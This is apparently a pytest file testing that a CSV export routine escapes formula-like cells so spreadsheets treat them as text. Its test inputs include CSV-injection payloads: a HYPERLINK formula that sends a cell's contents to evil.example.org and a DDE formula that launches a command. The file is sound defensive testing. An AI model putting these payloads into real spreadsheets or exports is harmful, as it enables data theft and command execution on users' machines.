"""Tables that staff download are opened by spreadsheets, which must run nothing of them."""

import csv
import io
from datetime import date

import pytest

from posts.health.tabulating import csv_lines

FORMULAS = [
    '=HYPERLINK("https://evil.example.org?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_that_looks_like_a_formula_is_text_to_a_spreadsheet(formula: str) -> None:
    header, row = read(b"".join(csv_lines([formula], [[formula]])))

    assert header == row == [f"'{formula}"]


@pytest.mark.parametrize(
    "text", ["example.org", "한글", "a=b", "1-2", "", "it's", "100 %", "'quoted'", "“x”"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert read(b"".join(csv_lines(["name"], [[text, "end"]])))[1] == [text, "end"]


@pytest.mark.parametrize(
    "text", ["a,=1+1", 'a";=1+1', "a\r\n=1+1", 'a"\r\n"=1+1', "a\n@x", "a\t=1+1"]
)
def test_no_text_can_begin_a_cell_or_a_row_of_its_own(text: str) -> None:
    data = b"".join(csv_lines(["name", "next"], [[text, "end"]]))

    assert read(data) == [["name", "next"], [text, "end"]]
    # Nor with the separator of another locale, or a tab: all text is in quotes.
    assert data.decode("utf-8-sig").split("\r\n", 1)[1].startswith('"a')


def test_numbers_are_numbers_also_below_zero() -> None:
    lines = b"".join(csv_lines(["a", "b", "c"], [[-5, 0.25, 1200]])).decode()

    assert lines.endswith("\r\n-5,0.25,1200\r\n")


def test_days_are_written_as_the_standard_does() -> None:
    assert read(b"".join(csv_lines(["day"], [[date(2024, 5, 10)]])))[1] == ["2024-05-10"]


def test_spreadsheets_are_told_the_encoding_once() -> None:
    data = b"".join(csv_lines(["이름"], [["가"], ["나"]]))

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1


def test_lines_leave_one_by_one() -> None:
    def endless():
        while True:
            yield ["row"]

    lines = csv_lines(["name"], endless())

    assert [next(lines) for _ in range(3)][1:] == [b'"row"\r\n', b'"row"\r\n']
